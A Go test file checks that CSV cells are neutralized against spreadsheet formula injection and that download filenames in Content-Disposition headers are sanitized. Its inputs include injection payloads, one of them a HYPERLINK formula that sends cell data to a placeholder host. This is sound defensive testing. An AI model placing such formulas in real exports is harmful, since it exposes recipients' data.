package httpapi

import (
	"mime"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestNeutralizeCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "Ada": "Ada", "17": "17", "a=1": "a=1", "Ada-Lovelace": "Ada-Lovelace", " Ada": " Ada", "'quoted": "'quoted", "🎈": "🎈", "~1": "~1",
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t'=1", "\tx": "'\tx", "\r=1": "'\r'=1", "\rx": "'\rx", "\n=1": "'\n'=1",
		"＝1+1": "'＝1+1", "＋1": "'＋1", "－1": "'－1", "＠SUM": "'＠SUM", " =1": " '=1", "\u00a0=1": "\u00a0'=1", "\ufeff=1": "\ufeff'=1", "\u200b@x": "\u200b'@x",
		"Eve;=1+1": "Eve;'=1+1", "Mallory;@SUM(1)": "Mallory;'@SUM(1)", "a, -1": "a, '-1", "a\t+1": "a\t'+1", "a|=1": "a|'=1", "good\n=4+5": "good\n'=4+5", "a\r\n\r\n-1": "a\r\n\r\n'-1",
		"a\u2028=1": "a\u2028'=1", `x;"=1+1"`: `x;"'=1+1"`, `";""=1"`: `";""'=1"`, "a;b=1": "a;b=1", "1-2": "1-2", "a; b": "a; b",
		`=HYPERLINK("http://example.org?"&A1)`: `'=HYPERLINK("http://example.org?"&A1)`, "-": "'-", "=": "'=",
	} {
		if got := neutralizeCell(in); got != want {
			t.Errorf("%q becomes %q, want %q", in, got, want)
		}
	}
}

// FuzzNeutralizeCell reads the text as a cell of a file with each of the usual separators, and looks for a cell that begins as a
// formula.
func FuzzNeutralizeCell(f *testing.F) {
	for _, s := range []string{"", "=1", " =1", "\t", "＝", "\ufeff+", "a", "\xff=", "\x00=1", "a;=1", "a\n=1", `";"=1`, `""=1`, "a,,=1", "\r\t@"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := neutralizeCell(s)
		if plain := strings.ReplaceAll(got, "'", ""); plain != strings.ReplaceAll(strings.ToValidUTF8(s, "\ufffd"), "'", "") && utf8.ValidString(s) {
			t.Fatalf("%q becomes %q", s, got)
		}
		for _, cell := range strings.FieldsFunc(got, func(r rune) bool { return strings.ContainsRune(cellSeparators, r) }) {
			begin := strings.TrimLeftFunc(cell, func(r rune) bool {
				return r == '"' || unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r)
			})
			if first, _ := utf8.DecodeRuneInString(begin); begin != "" && strings.ContainsRune(formulaSigns, first) {
				t.Errorf("a cell of %q begins as a formula: %q", got, cell)
			}
		}
	})
}

func TestFormatDisposition(t *testing.T) {
	for title, want := range map[string]string{
		"Chapter 3":      `attachment; filename="grades Chapter 3.csv"; filename*=UTF-8''grades%20Chapter%203.csv`,
		"Über 100% / ½":  `attachment; filename="grades _ber 100_ - _.csv"; filename*=UTF-8''grades%20%C3%9Cber%20100%25%20-%20%C2%BD.csv`,
		`..\"x"`:         `attachment; filename="grades ..--x-.csv"; filename*=UTF-8''grades%20..--x-.csv`,
		"李小龙 . ":         `attachment; filename="grades ___.csv"; filename*=UTF-8''grades%20%E6%9D%8E%E5%B0%8F%E9%BE%99.csv`,
		"a;b='c' (1)@=&": `attachment; filename="grades a;b='c' (1)@=&.csv"; filename*=UTF-8''grades%20a%3Bb%3D%27c%27%20%281%29%40%3D%26.csv`,
	} {
		got := formatDisposition(newFileName(title))
		if got != want {
			t.Errorf("%q: got %s\nwant %s", title, got, want)
		}
		if _, params, err := mime.ParseMediaType(got); err != nil || params["filename"] != newFileName(title) {
			t.Errorf("%q: a client reads %q, %v", title, params["filename"], err)
		}
	}
}
